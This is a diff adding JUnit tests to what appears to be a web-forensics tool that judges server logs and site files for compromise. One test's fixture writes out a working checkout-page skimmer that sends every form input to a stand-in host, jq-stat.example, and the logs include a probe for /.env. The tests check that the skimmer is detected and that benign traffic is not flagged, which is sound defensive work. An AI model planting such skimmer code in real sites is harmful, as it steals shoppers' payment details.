@@ -2,8 +2,11 @@ package org.evenkeel.forensics;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import org.evenkeel.forensics.investigation.EntryPoint;
+import org.evenkeel.forensics.investigation.Grade;
 import org.evenkeel.forensics.investigation.Investigation;
 import org.evenkeel.forensics.investigation.Verdict;
 import org.junit.jupiter.api.BeforeEach;
@@ -84,6 +87,52 @@ class HolesAndShellsTest {
     monitored();
 
     assertThat(log.investigated().verdict()).isEqualTo(Verdict.NO_EVIDENCE);
+  }
+
+  @Test
+  void stylesThatAProgramAmongPicturesMakesAccuseNobody() throws Exception {
+    for (int visit = 0; visit < 40; visit++) {
+      log.at(visit / 24, visit % 24, 9).by("198.51.100." + (visit + 1), WrittenLog.CUSTOMER);
+      log.from("https://shop.example/shop/");
+      log.then(0, "GET /wp-content/uploads/styles/dyn.php?ver=7.1", 200, 41_220);
+    }
+
+    Investigation found = log.investigated();
+    assertThat(found.verdict()).isLessThan(Verdict.POSSIBLE);
+    assertThat(found.scene().actors())
+        .allSatisfy(actor -> assertThat(actor.grade()).isEqualTo(Grade.E0));
+  }
+
+  @Test
+  void noticesOfAPaymentProviderAreNoShell() throws Exception {
+    for (int paid = 0; paid < 20; paid++) {
+      log.at(paid / 12, 8 + paid % 12, 44).by("203.0.113.63", "Stripe/1.0");
+      log.then(0, "POST /modules/stripe_official/webhook_handler.php", 200, 2 + paid % 5 * 11);
+    }
+
+    assertThat(log.investigated().verdict()).isEqualTo(Verdict.NO_EVIDENCE);
+  }
+
+  @Test
+  void whereASkimmerLiesNobodyIsComforted(@TempDir Path web) throws Exception {
+    log.at(1, 1, 1).by("192.0.2.12", WrittenLog.TOOL).then(0, "GET /.env", 404, 300);
+    Files.writeString(
+        web.resolve("checkout.js"),
+        """
+        if (location.href.indexOf('checkout') > -1) {
+          document.addEventListener('change', function () {
+            var d = {};
+            document.querySelectorAll('input').forEach(function (e) { d[e.name] = e.value; });
+            new Image().src = 'https://jq-stat.example/p.gif?d=' + btoa(JSON.stringify(d));
+          });
+        }
+        """);
+
+    Investigation found = log.investigated(new StoreCopy(List.of(web), List.of(), List.of()));
+    assertThat(found.verdict()).isGreaterThanOrEqualTo(Verdict.PROBABLE);
+    assertThat(found.answer().story())
+        .anySatisfy(said -> assertThat(said.text()).contains("checkout.js"))
+        .noneSatisfy(said -> assertThat(said.text()).contains("expose nobody"));
   }
 
   private void monitored() {
